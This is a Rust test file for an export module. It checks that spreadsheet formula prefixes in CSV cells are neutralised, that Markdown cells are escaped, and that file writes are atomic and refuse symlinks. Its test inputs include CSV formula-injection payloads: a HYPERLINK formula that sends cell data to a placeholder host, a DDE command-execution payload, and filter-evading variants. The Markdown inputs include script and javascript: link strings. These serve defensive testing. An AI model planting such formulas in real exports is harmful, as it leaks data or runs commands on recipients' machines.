//! Exports are opened on other people's machines: what is text stays text there.

use super::csv::text;
use super::markdown::cell;
use super::*;

#[test]
fn no_cell_becomes_a_formula() {
    for hostile in [
        "=HYPERLINK(\"http://x/\"&A1)",
        "=cmd|'/c calc'!A1",
        "+1",
        "-1+2",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "＝1+1",
        "  =1+1",
        "\u{feff}=1",
        "\u{200b}@x",
    ] {
        let safe = text(hostile);
        assert!(safe.starts_with('\''), "{hostile:?} became {safe:?}");
        assert_eq!(&safe[1..], hostile, "and loses nothing but the prefix");
    }
    assert_eq!(text("CSV export, = sign inside"), "CSV export, = sign inside", "ordinary words stay as they are");
    assert_eq!(text("a\0b"), "a\u{2400}b");
}

#[test]
fn markdown_shows_what_was_said() {
    assert_eq!(cell("a | b <script>\n# c"), "a \\| b \\<script\\> \\# c");
    assert_eq!(cell("- [x](javascript:1)"), "\\- \\[x\\](javascript:1)");
    assert_eq!(
        cell("**bold** `code` ~~no~~ &amp; ![i](u)"),
        "\\*\\*bold\\*\\* \\`code\\` \\~\\~no\\~\\~ \\&amp; \\!\\[i\\](u)"
    );
}

#[test]
fn a_file_is_there_whole_or_as_it_was() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("out.csv");
    write(&path, b"first").unwrap();
    write(&path, b"second").unwrap();
    assert_eq!(std::fs::read(&path).unwrap(), b"second");
    assert_eq!(std::fs::read_dir(dir.path()).unwrap().count(), 1, "nothing is left beside it");
    let error = write(dir.path(), b"x").unwrap_err().to_string();
    assert!(error.contains("folder"), "{error}");
    let missing = dir.path().join("no/such/folder/out.csv");
    assert!(matches!(write(&missing, b"x"), Err(Error::Io { .. })));
}

#[cfg(unix)]
#[test]
fn a_link_is_not_followed() {
    let dir = tempfile::tempdir().unwrap();
    let target = dir.path().join("precious");
    std::fs::write(&target, "keep").unwrap();
    let link = dir.path().join("out.csv");
    std::os::unix::fs::symlink(&target, &link).unwrap();
    assert!(write(&link, b"x").is_err());
    assert_eq!(std::fs::read(&target).unwrap(), b"keep");
}
